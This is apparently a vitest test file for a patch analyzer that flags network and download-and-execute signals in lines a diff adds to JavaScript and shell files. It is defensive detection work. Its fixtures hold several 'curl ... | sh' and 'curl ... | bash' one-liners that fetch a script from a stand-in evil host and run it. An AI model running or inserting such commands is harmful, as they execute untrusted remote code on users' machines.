import { describe, expect, it } from 'vitest';
import { analyzePatchedFile } from '../../src/scripts/patch.js';
import { parseUnifiedDiff } from '../../src/text/unified-diff.js';

const diffOf = (path: string, lines: string[]) =>
  parseUnifiedDiff([`diff --git a/${path} b/${path}`, `--- a/${path}`, `+++ b/${path}`, ...lines, ''].join('\n'))[0]!;
const kinds = (path: string, lines: string[]) => analyzePatchedFile(diffOf(path, lines), path).map((signal) => `${signal.kind}@${signal.line}`);

describe('analyzePatchedFile: the install-script analysis on the lines a patch adds', () => {
  it('reads added lines of JavaScript and shell files, with the signals at their new line numbers', () => {
    expect(kinds('index.js', ['@@ -5,1 +5,2 @@', ' x();', "+require('child_process').exec('curl -s https://evil.example.test/i | sh');"])).toEqual([
      'network@6',
      'download-and-execute@6',
    ]);
    expect(kinds('bin/setup.sh', ['@@ -1,1 +1,2 @@', ' set -e', '+curl -s https://evil.example.test/i | bash'])).toEqual([
      'network@2',
      'download-and-execute@2',
    ]);
  });

  it('context and removed lines are not judged; nor are plain commands, fragments that do not parse, or other files', () => {
    expect(
      kinds('index.js', ['@@ -1,2 +1,2 @@', "-require('child_process').exec('curl https://evil.example.test/i | sh');", '+module.exports = 1;', ' }']),
    ).toEqual([]);
    expect(kinds('index.js', ['@@ -1,1 +1,2 @@', "+const message = 'run npm test';", ' }) => {'])).toEqual([]);
    expect(kinds('README.md', ['@@ -1,1 +1,2 @@', ' # a', '+curl -s https://evil.example.test/i | bash'])).toEqual([]);
  });
});
